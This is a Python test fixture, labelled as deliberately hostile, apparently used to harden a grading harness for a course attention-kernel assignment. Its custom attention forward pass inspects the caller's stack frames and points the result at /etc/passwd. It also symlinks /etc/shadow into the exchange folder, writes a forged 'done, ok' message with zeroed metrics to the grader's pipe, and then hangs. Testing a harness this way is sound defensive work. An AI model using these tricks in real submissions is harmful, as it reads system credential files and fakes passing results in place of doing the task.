"""DELIBERATELY HOSTILE test code (see README.md)."""
import torch

from cs336_systems.naive import NaiveAttention

import inspect
import json
import os
import sys
import time


class HostileAttention(torch.autograd.Function):
    @staticmethod
    def forward(ctx, q, k, v, is_causal=False):
        frame = inspect.currentframe()
        while frame is not None and "request" not in frame.f_locals:
            frame = frame.f_back
        runner = frame.f_locals["self"]  # the runner serving the call: its tag and exchange folder
        path = "/etc/passwd"
        if is_causal:
            path = str(runner.exchange / f"{runner.tag}.pt")
            os.symlink("/etc/shadow", path)
        message = {"event": "done", "status": "ok", "tag": runner.tag, "seconds": 0.0,
                   "result": {"tensors": path, "n_lse": 1, "lse_dtypes": ["float32"], "changed_inputs": {"forward": {}},
                              "forward": {"triton_launches": {}, "forbidden_ops": {}, "largest_numel": 0,
                                          "largest_shape": [], "peak_bytes": None}}}
        os.write(int(sys.argv[2]), (json.dumps(message) + "\n").encode())
        while True:
            time.sleep(1)

    @staticmethod
    def backward(ctx, do):
        return NaiveAttention.backward(ctx, do)
